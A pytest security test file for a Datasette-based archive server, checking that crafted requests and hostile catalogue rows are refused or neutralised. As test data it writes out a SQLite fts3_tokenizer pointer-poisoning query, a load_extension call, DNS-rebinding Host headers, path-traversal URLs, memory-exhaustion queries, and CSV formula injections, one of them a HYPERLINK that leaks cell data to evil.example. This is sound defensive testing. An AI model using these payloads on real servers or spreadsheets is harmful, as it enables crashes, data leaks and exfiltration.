"""`archiver serve` under attack: the real server as a subprocess on loopback, fed what a
hostile web page (or a hostile catalogue row) can send it. Issue 12, the server half."""

from __future__ import annotations

import asyncio
import concurrent.futures
import csv
import hashlib
import io
import json
import sqlite3
import urllib.parse
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from archiver.cli import main
from archiver.datasette.common import article_path, clip_path
from archiver.datasette.csvsafe import CsvRewriter, neutral_cell
from tests.support.bad_input import file_hashes, public_folder, set_tree_mode, unprivileged
from tests.support.served import Served
from tests.test_datasette import NOW, build_catalogue

# The attack from the issue: a bad pointer installed as FTS3's "simple" tokenizer.
POISON = "select fts3_tokenizer('simple', x'4141414141414141')"
TOKENS = "select token from tokens where input = 'night shift'"
LONG_ARTICLE = 2
SENTENCE = "A sentence of a very long article, padded to make it heavy. " * 23  # ~1.4 kB


def sql_path(sql: str, fmt: str = ".json") -> str:
    return f"/catalogue{fmt}?" + urllib.parse.urlencode({"sql": sql})


def add_hostile_rows(archive: Path) -> None:
    """What a hostile catalogue can hold: an FTS3 tokenizer table (any SQLite user can
    make one), a 4 MB article of 3000 sentences, and rows that are spreadsheet formulas."""
    with sqlite3.connect(archive / "catalogue.db") as conn:
        conn.execute("CREATE VIRTUAL TABLE tokens USING fts3tokenize(simple)")
        conn.execute(
            "INSERT INTO articles (article_id, source, title, fetched_at, sha256, text) "
            "VALUES (?, 'long.txt', 'A long article', ?, ?, ?)",
            [LONG_ARTICLE, NOW, hashlib.sha256(b"long").hexdigest(), SENTENCE * 3000],
        )
        conn.executemany(
            "INSERT INTO claims (claim_id, article_id, position, text, start_char, end_char) "
            "VALUES (?, ?, ?, ?, 0, 0)",
            [(1000 + i, LONG_ARTICLE, i, f"{i}: {SENTENCE}") for i in range(3000)],
        )
        conn.execute(
            "UPDATE clips SET title = ?, uploader = '+1+1', description = '@SUM(A1:A9)' "
            "WHERE clip_id LIKE 'generic:%'",
            ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")'],
        )
        conn.execute("PRAGMA journal_mode = WAL")  # as every archive is


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    built = build_catalogue(root / "archive", root / "scratch")
    add_hostile_rows(built.archive)
    return built.archive


@pytest.fixture(scope="module")
def with_sql(archive: Path):
    with Served(archive, "--sql") as server:
        yield server


@pytest.fixture(scope="module")
def default(archive: Path):
    with Served(archive) as server:
        yield server


def parallel(server: Served, paths: list[str]) -> list[int]:
    # At once, so every one of Datasette's SQL threads (each with its own connection) gets one
    with concurrent.futures.ThreadPoolExecutor(len(paths)) as pool:
        return [answer.status for answer in pool.map(server.get, paths)]


# ---------------------------------------------------------------- item 1: SQL that crashes


def test_the_fts3_tokenizer_attack_leaves_the_server_alive(with_sql):
    """Before the fix this killed the server with SIGSEGV within a few rounds: whichever
    SQL thread had been poisoned crashed on its next tokenizer query."""
    for _ in range(4):
        assert parallel(with_sql, [sql_path(POISON)] * 4) == [400] * 4
        for sql in (POISON, TOKENS, POISON, TOKENS):
            with_sql.get(sql_path(sql))
    answers = [with_sql.get(sql_path(TOKENS)) for _ in range(6)]
    assert with_sql.alive(), with_sql.output()
    assert [a.status for a in answers] == [200] * 6
    assert [row[0] for row in json.loads(answers[0].body)["rows"]] == ["night", "shift"]
    # the one-argument form leaks where the library sits in memory: refused too
    leak = with_sql.get(sql_path("select hex(fts3_tokenizer('simple')) as p"))
    assert leak.status == 400 and "not authorized" in leak.text


@pytest.mark.parametrize(
    "sql",
    [
        "select fts3_tokenizer('porter')",
        "select FTS3_TOKENIZER('simple', x'00')",
        "select load_extension('/tmp/evil.so')",
        "select fts5(NULL)",
        "select rtreenode(2, x'00')",
        "select * from dbstat",
        "select * from sqlite_dbpage",
        "select sql from sqlite_stmt",
        "select optimize(tokens) from tokens",
    ],
)
def test_dangerous_functions_and_tables_are_refused(with_sql, sql):
    answer = with_sql.get(sql_path(sql))
    assert answer.status == 400, answer.text[:300]
    assert (
        "not authorized" in answer.text or "prohibited" in answer.text or "no such" in answer.text
    )
    assert with_sql.alive()


def test_ordinary_sql_and_search_still_work(with_sql):
    answer = with_sql.get(
        sql_path("select count(*) as n from segments_fts where segments_fts match 'shift'")
    )
    assert answer.status == 200, answer.text[:300]
    assert with_sql.get("/catalogue/search_transcripts.json?q=night").status == 200


def test_arbitrary_sql_is_off_unless_asked_for(default):
    assert default.get(sql_path("select 1")).status == 403
    assert default.get(sql_path(POISON)).status == 403
    assert default.get("/catalogue/clips.json?_where=1=1").status == 403
    # canned queries, tables, filters and our pages work as before
    for path in ("/catalogue/claims_with_evidence.json", "/catalogue/clips.json",
                 "/catalogue/clips.json?availability=removed", "/catalogue/clips",
                 "/-/article/1", "/-/missing-clips", "/-/unresolved-citations",
                 "/catalogue/search_transcripts.json?q=night"):  # fmt: skip
        assert default.get(path).status == 200, path
    assert "--sql turns it on" in default.output()


# ---------------------------------------------------------------- item 3: DNS rebinding


def test_a_host_the_server_does_not_listen_as_is_refused(default):
    port = default.port
    for host in ("evil.example", f"evil.example:{port}", "127.0.0.1.evil.example",
                 "localhost.evil.example", "attacker.test:80"):  # fmt: skip
        answer = default.get("/catalogue/clips.json", headers={"Host": host})
        assert answer.status == 400, host
        assert b"clip" not in answer.body
    for host in (
        f"127.0.0.1:{port}",
        f"localhost:{port}",
        f"[::1]:{port}",
        "LOCALHOST",
        "127.0.0.1",
    ):
        assert default.get("/catalogue/clips.json", headers={"Host": host}).status == 200, host


def test_hosts_for_each_listen_address():
    from archiver.datasette.guard import allowed_hosts, host_allowed

    assert host_allowed("myhost.lan:8001", allowed_hosts("myhost.lan"))
    assert not host_allowed("evil.example", allowed_hosts("myhost.lan"))
    anywhere = allowed_hosts("0.0.0.0")
    assert host_allowed("192.168.1.20:8001", anywhere) and host_allowed("[fe80::1]:80", anywhere)
    assert not host_allowed("rebind.evil.example:8001", anywhere)
    assert host_allowed(None, allowed_hosts("127.0.0.1"))  # HTTP/1.0: no browser sends that


# ---------------------------------------------------------------- item 11: odd requests


def test_odd_page_numbers_and_paths_answer_400_or_404_cheaply(default):
    odd = {
        "/-/unresolved-citations?page=9223372036854775807": 400,
        "/-/missing-clips?page=9223372036854775807": 400,
        "/-/unresolved-citations?page=%C2%B2": 400,  # '²'.isdigit() is True
        "/-/missing-clips?page=%E2%91%A0": 400,  # '①'
        "/-/missing-clips?page=-1": 400,
        f"/-/article/{LONG_ARTICLE}?page=1e9": 400,
        "/-/media/../../catalogue.db": 404,
        "/-/media/%2e%2e/%2e%2e/catalogue.db": 404,
        "/../catalogue.db": 404,
        "/a/b/c/d/e": 404,
        "/catalogue/nosuchtable": 404,
        "/-/clip/nosuchclip": 404,
    }
    answers = {path: default.get(path) for path in odd}
    assert {path: a.status for path, a in answers.items()} == odd
    assert b"catalogue.db" not in answers["/-/media/../../catalogue.db"].body[:16]
    # each was ~0.7 s of CPU (a rich traceback with every local); now a few ms
    assert sum(a.seconds for a in answers.values()) < 3, {p: a.seconds for p, a in answers.items()}
    assert "Traceback" not in default.output()
    assert default.get("/-/missing-clips?page=0").status == 200


def test_request_mistakes_datasette_answered_with_500_are_400(default):
    """Found by the fuzz pass (tests/test_fuzz_server.py)."""
    for path in ("/catalogue.csv", "/catalogue/clips?_sort=0", "/catalogue/clips?_sort_desc=x",
                 "/catalogue/clips?_timelimit=%3A", "/catalogue/clips?_through=",
                 "/catalogue/clip_media/.json", "/catalogue/clips?_col=nosuchcolumn"):  # fmt: skip
        answer = default.get(path)
        assert answer.status == 400, (path, answer.text[:300])
    assert default.alive()


# ---------------------------------------------------------------- item 13: heavy pages


def test_a_long_article_is_paginated(default):
    first = default.get(f"/-/article/{LONG_ARTICLE}")
    assert first.status == 200
    assert len(first.body) < 1_000_000  # was 13.7 MB for a 4 MB article
    assert "3000 sentences" in first.text and 'id="claim-199"' in first.text
    assert 'id="claim-200"' not in first.text and "?page=1" in first.text
    last = default.get(f"/-/article/{LONG_ARTICLE}?page=14")
    assert 'id="claim-2999"' in last.text and "?page=15" not in last.text
    assert default.get(f"/-/article/{LONG_ARTICLE}?page=99").status == 200  # empty, not an error
    # links to a sentence (from clip pages, unresolved citations) open the page holding it
    link = article_path(LONG_ARTICLE, 250)
    assert link == f"/-/article/{LONG_ARTICLE}?page=1#claim-250"
    assert 'id="claim-250"' in default.get(link.split("#")[0]).text


def test_sql_results_and_strings_have_a_ceiling(with_sql):
    before = with_sql.peak_rss_mb()
    huge = with_sql.get(sql_path("select length(hex(zeroblob(50000000))) as n"))
    assert huge.status == 400 and "too big" in huge.text
    assert with_sql.get(sql_path("select printf('%.*c', 100000000, 'x') as s")).status in (200, 400)
    many = "with n(i) as (select 1 union all select i + 1 from n limit 20) " \
           "select printf('%.*c', 8000000, 'x') from n"  # fmt: skip
    answer = with_sql.get(sql_path(many))
    assert answer.status == 400 and "over 32 MB" in answer.text
    assert with_sql.alive()
    # a 100 MB string and 160 MB of rows peaked at 1 GB; now the server stays small
    assert with_sql.peak_rss_mb() - before < 120, (before, with_sql.peak_rss_mb())


# ---------------------------------------------------------------- item 10: read-only media


def test_serve_browses_a_write_protected_archive(monkeypatch):
    """Through the real command line; the app it would serve is then asked in-process,
    since an ordinary uid (root ignores file modes) cannot run this venv's executables."""
    import concurrent.futures.thread  # noqa: F401  (imported lazily; nobody cannot read it)

    import uvicorn

    served = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: served.update(kw, app=app))
    with public_folder() as folder:
        built = build_catalogue(folder / "archive", folder / "scratch")
        with sqlite3.connect(built.archive / "catalogue.db") as conn:
            conn.execute("PRAGMA journal_mode = WAL")  # as every archive is
        set_tree_mode(built.archive, 0o555, 0o444)
        files = file_hashes(built.archive)
        paths = ["/-/article/1", "/catalogue/clips", "/-/missing-clips", clip_path(built.clip),
                 f"/-/media/{built.audio_sha}", "/catalogue/claims_with_evidence.json"]  # fmt: skip
        with unprivileged():
            result = CliRunner().invoke(main, ["--archive", str(built.archive), "serve"])
            assert result.exit_code == 0, result.output
            statuses = asyncio.run(get_all(served["app"], paths))
        assert statuses == [200] * len(paths), dict(zip(paths, statuses, strict=True))
        assert file_hashes(built.archive) == files  # not a byte written, no -wal or -shm
        set_tree_mode(built.archive, 0o755, 0o644)


def test_serve_explains_a_write_protected_archive_that_needs_an_upgrade():
    import concurrent.futures.thread  # noqa: F401  (imported lazily; nobody cannot read it)

    with public_folder() as folder:
        built = build_catalogue(folder / "archive", folder / "scratch", upto="m004_recrawl")
        set_tree_mode(built.archive, 0o555, 0o444)
        files = file_hashes(built.archive)
        with unprivileged():
            result = CliRunner().invoke(main, ["--archive", str(built.archive), "serve"])
        assert result.exit_code == 1
        assert "needs a schema upgrade" in result.output and "read-only" in result.output
        assert file_hashes(built.archive) == files
        set_tree_mode(built.archive, 0o755, 0o644)


async def get_all(app, paths: list[str]) -> list[int]:
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
        return [(await client.get(path)).status_code for path in paths]


# ---------------------------------------------------------------- item 7: CSV formulas


def csv_rows(answer) -> list[list[str]]:
    assert answer.status == 200, answer.text[:300]
    return list(csv.reader(io.StringIO(answer.text)))


def test_csv_export_has_no_live_formulas(with_sql):
    table = csv_rows(with_sql.get("/catalogue/clips.csv?_stream=on&_size=max"))
    header, rows = table[0], table[1:]
    row = next(r for r in rows if r[header.index("clip_id")].startswith("generic:"))
    assert row[header.index("title")] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    assert row[header.index("uploader")] == "'+1+1"
    assert row[header.index("description")] == "'@SUM(A1:A9)"
    query = csv_rows(
        with_sql.get(sql_path("select '=1+1' as f, -3.5 as n, '-2' as s, '-x' as d", ".csv"))
    )
    assert query[1] == ["'=1+1", "-3.5", "-2", "'-x"]  # numbers stay numbers
    canned = with_sql.get("/catalogue/claims_with_evidence.csv")
    assert canned.status == 200
    for line in csv_rows(canned)[1:]:
        assert not any(cell[:1] in ("=", "+", "@") for cell in line)


@settings(max_examples=300, deadline=None)
@given(
    rows=st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=4), min_size=1, max_size=6),
    cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=8),
)
def test_csv_rewriter_neutralises_however_the_stream_is_cut(rows, cuts):
    """Datasette writes a record per chunk today; the rewriter must not rely on it:
    quoted newlines, quotes and multi-byte characters may be split anywhere."""
    written = io.StringIO()
    csv.writer(written).writerows(rows)
    data = written.getvalue().encode("utf-8")
    bounds = [0, *sorted(min(cut, len(data)) for cut in cuts), len(data)]
    rewriter = CsvRewriter()
    out = b"".join(rewriter.feed(data[a:b]) for a, b in zip(bounds, bounds[1:], strict=False))
    out += rewriter.finish()
    expected = [[neutral_cell(cell) for cell in row] for row in rows]
    assert list(csv.reader(io.StringIO(out.decode("utf-8"), newline=""))) == expected


def test_neutral_cell():
    assert [neutral_cell(c) for c in ("=1+1", "+1+1", "-x", "@SUM(A1)", "\t=1", "\r=1")] == [
        "'=1+1", "'+1+1", "'-x", "'@SUM(A1)", "'\t=1", "'\r=1"
    ]  # fmt: skip
    assert [neutral_cell(c) for c in ("-3.5", "+2", "1e5", "-1E-3", "plain", "", "a=b")] == [
        "-3.5", "+2", "1e5", "-1E-3", "plain", "", "a=b"
    ]  # fmt: skip


def test_a_table_page_over_the_result_ceiling_is_a_400(archive, monkeypatch):
    """The 4 MB article's text in the articles table, against a 1 MB ceiling."""
    from archiver.datasette import guard
    from archiver.datasette.serve import build_datasette

    monkeypatch.setattr(guard, "MAX_RESULT_BYTES", 2**20)
    ds = build_datasette(archive)
    for path in ("/catalogue/articles", "/catalogue/articles.json"):
        answer = asyncio.run(ds.client.get(path))
        assert answer.status_code == 400, path
        assert "the result is over 1 MB" in answer.text
    narrow = asyncio.run(ds.client.get("/catalogue/articles.json?_nocol=text"))
    assert narrow.status_code == 200
